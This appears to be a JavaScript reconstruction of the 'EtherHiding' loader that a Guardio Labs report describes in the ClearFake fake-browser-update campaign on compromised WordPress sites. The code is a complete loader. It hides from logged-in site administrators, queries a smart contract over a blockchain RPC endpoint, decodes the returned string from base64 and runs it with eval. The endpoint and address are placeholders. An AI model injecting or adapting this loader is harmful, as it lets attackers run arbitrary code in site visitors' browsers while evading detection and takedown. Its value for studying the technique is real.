// etherhiding, written from Guardio Labs (Nati Tal, Oleg Zaytsev), "EtherHiding - Hiding
// Web2 Malicious Code in Web3 Smart Contracts" (2023), on the ClearFake fake-browser-update
// campaign: the script injected into compromised WordPress sites holds no payload and no
// attacker server; it reads its next stage from a smart contract on a public blockchain
// with a read-only eth_call JSON-RPC request, decodes the ABI string the contract returns
// (base64 text) and evaluates it. The RPC endpoint and contract address are made up.
(function () {
  if (document.cookie.indexOf("wordpress_logged_in") > -1) return;
  var RPC = "https://bsc-dataseed-rpc.invalid/";
  var CONTRACT = "0x7a3F1c2E9b8D4a6C5e0F1b2D3c4A5e6F7a8B9c0D";
  var body = JSON.stringify({
    jsonrpc: "2.0", id: 1, method: "eth_call",
    params: [{ to: CONTRACT, data: "0x6d4ce63c" }, "latest"] // get()
  });
  function abiString(hex) {
    hex = hex.replace(/^0x/, "");
    var off = parseInt(hex.slice(0, 64), 16) * 2;
    var len = parseInt(hex.slice(off, off + 64), 16);
    var data = hex.slice(off + 64, off + 64 + len * 2);
    var out = "";
    for (var i = 0; i < data.length; i += 2) out += String.fromCharCode(parseInt(data.substr(i, 2), 16));
    return out;
  }
  fetch(RPC, { method: "POST", headers: { "Content-Type": "application/json" }, body: body })
    .then(function (r) { return r.json(); })
    .then(function (j) {
      if (!j || !j.result || j.result === "0x") return;
      var code = atob(abiString(j.result));
      (0, eval)(code);
    })
    .catch(function () {});
})();
